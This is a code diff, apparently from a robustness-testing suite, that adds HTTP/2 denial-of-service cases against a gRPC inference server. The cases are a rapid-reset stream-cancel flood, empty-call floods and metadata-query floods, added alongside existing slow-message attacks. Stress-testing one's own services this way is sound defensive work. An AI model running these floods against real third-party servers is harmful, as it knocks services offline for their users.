@@ -13,12 +13,17 @@ from experiments.robustness.attacks.case import Case, Target
 
 DATA, HEADERS, RESET, SETTINGS, PING, AWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
+CANCEL = struct.pack(">I", 8)
 INITIAL_WINDOW, INITIAL_SIZE = 4, 65_535
 FRAME_BYTES = 16_384
 MESSAGE_BYTES = 8_388_000
 """Just within what a message may have."""
 CONNECTIONS, STREAMS = 24, 16
+FLOODING, BURST = 8, 16
+"""Connections of a flood, and calls that are begun in one go."""
 PAUSE_S = 0.02
+RESET_S = 0.001
+"""Between a call's begin and its end: the library has handed it over by then."""
 SERVICE = "/inference.GRPCInferenceService/"
 METHODS = ("ServerLive", "ServerReady", "ModelMetadata", "ModelInfer")
 
@@ -30,6 +35,15 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 def _field(name: str, value: str) -> bytes:
     """A header field without indexing, neither part compressed."""
     return b"\x00" + b"".join(bytes([len(t)]) + t.encode() for t in (name, value))
+
+
+def _block(method: str) -> bytes:
+    """The header block of a call."""
+    fields = (
+        (":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
+        (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
+    )  # fmt: skip
+    return b"".join(_field(*field) for field in fields)
 
 
 class Http2:
@@ -51,13 +65,36 @@ class Http2:
     def call(self, method: str) -> None:
         """Begin a call of one long message."""
         self._last += 2
-        fields = (
-            (":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
-            (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
-        )  # fmt: skip
-        block = b"".join(_field(*field) for field in fields)
-        self._sock.sendall(_frame(HEADERS, END_HEADERS, self._last, block))
+        self._sock.sendall(_frame(HEADERS, END_HEADERS, self._last, _block(method)))
         self.streams[self._last], self._left[self._last] = self._initial, MESSAGE_BYTES
+
+    def reset(self, method: str, count: int) -> None:
+        """Cancel the calls begun the last time, and begin as many; hear what comes."""
+        sent = [_frame(RESET, 0, stream, CANCEL) for stream in self.streams]
+        self.streams.clear()
+        block = _block(method)
+        for _ in range(count):
+            self._last += 2
+            sent.append(_frame(HEADERS, END_HEADERS, self._last, block))
+            self.streams[self._last] = 0
+        self._sock.sendall(b"".join(sent))
+        time.sleep(RESET_S)
+        self._hear(0.0)
+
+    def ask(self, method: str, count: int, sent: bytes | None) -> None:
+        """Begin calls of that message (None: of none), until so many are under way; hear."""
+        block, frames = _block(method), list[bytes]()
+        while len(self.streams) < count:
+            self._last += 2
+            if sent is None:
+                frames.append(_frame(HEADERS, END_HEADERS | END_STREAM, self._last, block))
+            else:
+                frames.append(_frame(HEADERS, END_HEADERS, self._last, block))
+                message = b"\x00" + len(sent).to_bytes(4, "big") + sent
+                frames.append(_frame(DATA, END_STREAM, self._last, message))
+            self.streams[self._last] = 0
+        self._sock.sendall(b"".join(frames))
+        self._hear()
 
     def push(self) -> None:
         """Send what the windows allow, all but the last byte of each message; hear what comes."""
@@ -73,9 +110,9 @@ class Http2:
             self._window -= count
         self._hear()
 
-    def _hear(self) -> None:
-        self._sock.settimeout(PAUSE_S)
-        with contextlib.suppress(TimeoutError):
+    def _hear(self, within_s: float = PAUSE_S) -> None:
+        self._sock.settimeout(within_s)
+        with contextlib.suppress(TimeoutError, BlockingIOError):
             part = self._sock.recv(65_536)
             if not part:
                 raise ConnectionError("hung up")
@@ -91,7 +128,7 @@ class Http2:
 
     def _understand(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
         if kind == AWAY:
-            raise ConnectionError("told to go")
+            raise ConnectionError("refused by GOAWAY")
         if kind in (SETTINGS, PING) and not flags & ACK:
             if kind == SETTINGS:
                 self._settle(payload)
@@ -113,24 +150,24 @@ class Http2:
                 self._initial = value
 
 
-def _unfinished(methods: tuple[str, ...]) -> Callable[[Target], None]:
-    """Calls whose long message never ends, as many as the server lets begin."""
+def _on_connections(
+    count: int, methods: tuple[str, ...], go_on: Callable[[Http2, str], None]
+) -> Callable[[Target], None]:
+    """`go_on` again and again on so many connections; one that has ended is opened anew."""
 
     def attack(target: Target) -> None:
         until = time.monotonic() + target.seconds
 
-        def go_on(method: str) -> None:
+        def connect(method: str) -> None:
             while time.monotonic() < until:
                 with contextlib.suppress(OSError), contextlib.closing(Http2(target.grpc)) as one:
                     while time.monotonic() < until:
-                        while len(one.streams) < STREAMS:
-                            one.call(method)
-                        one.push()
+                        go_on(one, method)
                 time.sleep(PAUSE_S)
 
         threads = [
-            threading.Thread(target=go_on, args=(methods[k % len(methods)],), daemon=True)
-            for k in range(CONNECTIONS)
+            threading.Thread(target=connect, args=(methods[k % len(methods)],), daemon=True)
+            for k in range(count)
         ]
         for thread in threads:
             thread.start()
@@ -138,6 +175,13 @@ def _unfinished(methods: tuple[str, ...]) -> Callable[[Target], None]:
             thread.join(max(until - time.monotonic(), 0.0) + 1.0)
 
     return attack
+
+
+def _unfinished(one: Http2, method: str) -> None:
+    """Calls whose long message never ends, as many as the server lets begin."""
+    while len(one.streams) < STREAMS:
+        one.call(method)
+    one.push()
 
 
 def silent_callers(target: Target) -> None:
@@ -153,7 +197,14 @@ def silent_callers(target: Target) -> None:
 
 CASES = (
     Case("grpc-unfinished", "gRPC: long messages of every call that never end",
-         _unfinished(METHODS)),
-    Case("grpc-pictures", "gRPC: pictures that never end", _unfinished(("ModelInfer",))),
+         _on_connections(CONNECTIONS, METHODS, _unfinished)),
+    Case("grpc-pictures", "gRPC: pictures that never end",
+         _on_connections(CONNECTIONS, ("ModelInfer",), _unfinished)),
     Case("grpc-silent", "gRPC: connections that greet and say nothing", silent_callers),
+    Case("grpc-reset", "gRPC: calls that are begun and cancelled at once, without end",
+         _on_connections(FLOODING, METHODS, lambda one, method: one.reset(method, BURST))),
+    Case("grpc-empty", "gRPC: calls that end without a message, without end",
+         _on_connections(FLOODING, METHODS, lambda one, method: one.ask(method, BURST, None))),
+    Case("grpc-questions", "gRPC: questions for health and metadata, without end",
+         _on_connections(FLOODING, METHODS[:3], lambda one, method: one.ask(method, BURST, b""))),
 )  # fmt: skip
